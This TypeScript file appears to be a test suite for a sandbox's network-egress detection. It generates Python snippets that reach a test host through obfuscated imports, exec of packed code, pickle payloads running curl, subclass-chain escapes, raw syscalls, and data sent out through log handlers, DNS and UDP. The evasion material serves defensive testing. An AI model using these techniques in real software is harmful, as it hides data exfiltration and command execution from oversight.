import { deflateSync } from "node:zlib";
import { base64, filePrograms, type SinkProgram, type Target } from "./sink-program.ts";

const fetches = ({ url }: Target) => `import urllib.request\nurllib.request.urlopen('${url}')\n`;
const pair = ({ address, port }: Target) => `('${address}', ${port})`;
const packed = (code: string) => deflateSync(code).toString("base64");
const curl = ({ url }: Target) => `curl -s -m 5 ${url}`;

/** Python, F01 to F03. */
export const pythonPrograms: SinkProgram[] = filePrograms("python3", "py", [
  [
    "F01 getattr of a module named in pieces",
    "proxied",
    ({ url }) =>
      `getattr(__import__('urllib.re' + 'quest', fromlist=['x']), 'urlo' + 'pen')('${url}')`,
  ],
  [
    "F01 a shell by getattr",
    "proxied",
    (t) => `getattr(__import__('os'), 'sys' + 'tem')('cu' + '${curl(t).slice(2)}')`,
  ],
  [
    "F02 a module's name in base64",
    "proxied",
    ({ url }) =>
      `import importlib, base64\nm = importlib.import_module(base64.b64decode('${base64("urllib.request")}').decode())\nm.urlopen('${url}')`,
  ],
  [
    "F02 a name turned around",
    "direct",
    (t) => `__import__('tekcos'[::-1]).create_connection(${pair(t)}, 5).send(b'x')`,
  ],
  [
    "F02 a name by rot13",
    "direct",
    (t) =>
      `import codecs\n__import__(codecs.decode('fbpxrg', 'rot13')).create_connection(${pair(t)}, 5)`,
  ],
  [
    "F02 a name out of numbers",
    "direct",
    (t) =>
      `__import__(''.join(map(chr, [115,111,99,107,101,116]))).create_connection(${pair(t)}, 5)`,
  ],
  [
    "F03 exec of packed code",
    "proxied",
    (t) => `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${packed(fetches(t))}')))`,
  ],
  [
    "F03 eval of an expression",
    "direct",
    (t) => `eval("__import__('socket').create_connection(${pair(t)}, 5)")`,
  ],
  [
    "F03 compile, then exec, under other names",
    "proxied",
    (t) =>
      `c, e = compile, exec\ne(c(bytes.fromhex('${Buffer.from(fetches(t)).toString("hex")}'), 'x', 'exec'))`,
  ],
  [
    "F03 pickle of bytes",
    "proxied",
    (t) => `import pickle\npickle.loads(b"cos\\nsystem\\n(S'${curl(t)}'\\ntR.")`,
  ],
  [
    "F03 pickle of a file",
    "proxied",
    ({ dir }) => `import pickle\npickle.load(open('${dir}/model.pkl', 'rb'))`,
    {
      files: (t) => ({
        "main.py": `import pickle\npickle.load(open('${t.dir}/model.pkl', 'rb'))`,
        "model.pkl": `cos\nsystem\n(S'${curl(t)}'\ntR.`,
      }),
    },
  ],
  [
    "F03 marshal",
    "proxied",
    (t) =>
      `import marshal, types, base64\ncode = marshal.loads(marshal.dumps(compile(base64.b64decode('${base64(fetches(t))}'), 'x', 'exec')))\ntypes.FunctionType(code, {})()`,
  ],
  [
    "F03 connect of libc",
    "direct",
    ({ address, port }) =>
      `import ctypes, struct, ipaddress\nlibc = ctypes.CDLL(None)\na = struct.pack('=H', 2) + struct.pack('!H', ${port}) + ipaddress.ip_address('${address}').packed + bytes(8)\nlibc.connect(libc.socket(2, 1, 0), a, 16)`,
  ],
  [
    "F03 connect of the kernel, by number",
    "direct",
    ({ address, port }) =>
      `import ctypes, struct, ipaddress, os\ns, c = (41, 42) if os.uname().machine == 'x86_64' else (198, 203)\na = struct.pack('=H', 2) + struct.pack('!H', ${port}) + ipaddress.ip_address('${address}').packed + bytes(8)\nk = ctypes.CDLL(None).syscall\nk(c, k(s, 2, 1, 0), a, 16)`,
  ],
  [
    "F03 a raw socket",
    "direct",
    (t) =>
      `import socket\ntry: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6).sendto(bytes(40), ${pair(t)})\nexcept OSError: pass\nsocket.create_connection(${pair(t)}, 5)`,
  ],
  [
    "F03 the C half of socket",
    "direct",
    (t) => `import _socket\n_socket.socket(2, 1).connect(${pair(t)})`,
  ],
  [
    "F03 a datagram",
    "direct",
    (t) => `import socket\nsocket.socket(2, socket.SOCK_DGRAM).sendto(b'secret', ${pair(t)})`,
  ],
  [
    "F03 a question to a name server, by hand",
    "direct",
    (t) =>
      `import socket\nq = bytes.fromhex('12340100000100000000000006736563726574046576696c0000010001')\nsocket.socket(2, socket.SOCK_DGRAM).sendto(q, ${pair(t)})`,
  ],
  [
    "F03 IPv6",
    "direct",
    ({ port }) => `import socket\nsocket.create_connection(('::1', ${port}), 5)`,
    { at: "ipv6" },
  ],
  [
    "F03 a datagram by IPv6",
    "direct",
    ({ port }) =>
      `import socket\nsocket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('::1', ${port}))`,
    { at: "ipv6" },
  ],
  [
    "F03 by name",
    "direct",
    ({ port }) => `import socket\nsocket.create_connection(('localhost', ${port}), 5)`,
    { at: "localhost" },
  ],
  [
    "F03 an abstract unix socket",
    "direct",
    ({ abstract }) => `import socket\nsocket.socket(socket.AF_UNIX).connect('\\0${abstract}')`,
    { at: "abstract" },
  ],
  [
    "F03 asyncio",
    "direct",
    (t) => `import asyncio\nasyncio.run(asyncio.open_connection(*${pair(t)}))`,
  ],
  [
    "F03 http.client",
    "direct",
    (t) => `from http import client as c\nc.HTTPConnection(*${pair(t)}, 5).request('GET', '/x')`,
  ],
  [
    "F03 ssl",
    "direct",
    (t) =>
      `import ssl, socket\nc = ssl._create_unverified_context()\nc.wrap_socket(socket.create_connection(${pair(t)}, 5), server_hostname='evil.test')`,
  ],
  [
    "F03 urllib past the proxy",
    "direct",
    ({ url }) =>
      `import urllib.request as u\nu.build_opener(u.ProxyHandler({})).open('${url}', timeout=5)`,
  ],
  [
    "F03 a client that was copied and renamed",
    "direct",
    () => "",
    {
      files: (t) => ({
        "main.py": `import innocent\ninnocent.run${pair(t)}`,
        "innocent.py":
          "import _socket as plain\ndef run(h, p):\n    s = plain.socket(2, 1)\n    s.connect((h, p))\n    s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
      }),
    },
  ],
  [
    "F03 a program named in pieces",
    "proxied",
    ({ url }) => `import subprocess\nsubprocess.run(['cu' + 'rl', '-s', '-m', '5', '${url}'])`,
  ],
  [
    "F03 this program becomes another",
    "proxied",
    ({ url }) => `import os\nos.execvp('curl', ['curl', '-s', '-m', '5', '${url}'])`,
  ],
  [
    "F03 a terminal",
    "proxied",
    ({ url }) => `import pty\npty.spawn(['curl', '-s', '-m', '5', '${url}'])`,
  ],
  [
    "F03 through every class there is",
    "proxied",
    (t) =>
      `import os\nw = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\nw.__init__.__globals__['system']('${curl(t)}')`,
  ],
  [
    "F03 through sys.modules",
    "direct",
    (t) => `import email.utils, sys\nsys.modules['soc' + 'ket'].create_connection(${pair(t)}, 5)`,
  ],
  [
    "F03 a log that is sent away",
    "direct",
    ({ address, port }) =>
      `import logging, logging.handlers as h\nlogging.getLogger().addHandler(h.HTTPHandler('${address}:${port}', '/x'))\nlogging.warning('secret')`,
  ],
  [
    "F03 a log by datagrams",
    "direct",
    (t) =>
      `import logging, logging.handlers as h\nlogging.getLogger().addHandler(h.SysLogHandler(${pair(t)}))\nlogging.warning('secret')`,
  ],
  [
    "F03 a call to a remote procedure",
    "direct",
    ({ url }) => `import xmlrpc.client\nxmlrpc.client.ServerProxy('${url}').secret()`,
  ],
  [
    "F03 a connection of multiprocessing",
    "direct",
    (t) => `from multiprocessing.connection import Client\nClient(${pair(t)})`,
  ],
  ["F03 mail", "direct", (t) => `import smtplib\nsmtplib.SMTP(*${pair(t)}, timeout=2)`],
  ["F03 ftp", "direct", (t) => `import ftplib\nftplib.FTP().connect(*${pair(t)}, timeout=2)`],
  [
    "F03 a function with one argument filled in",
    "proxied",
    ({ url }) =>
      `import functools, urllib.request\nfunctools.partial(urllib.request.urlopen, '${url}')()`,
  ],
  [
    "F03 a function that is fetched by a function",
    "proxied",
    (t) => `import operator, os\noperator.attrgetter('system')(os)('cu' + '${curl(t).slice(2)}')`,
  ],
  [
    "F03 a manager of a context",
    "proxied",
    (t) =>
      `class X:\n    def __enter__(s): return __import__('os')\n    def __exit__(s, *a): pass\nwith X() as o:\n    o.system('${curl(t)}')`,
  ],
  [
    "F03 a decorator",
    "direct",
    (t) =>
      `@exec\n@lambda _: "import socket; socket.create_connection(${pair(t)}, 5)"\nclass A: pass`,
  ],
  [
    "F03 a file that runs as code",
    "proxied",
    () => "",
    {
      files: (t) => ({
        "main.py": `import runpy\nrunpy.run_path('${t.dir}/notes.txt')`,
        "notes.txt": fetches(t),
      }),
    },
  ],
]);
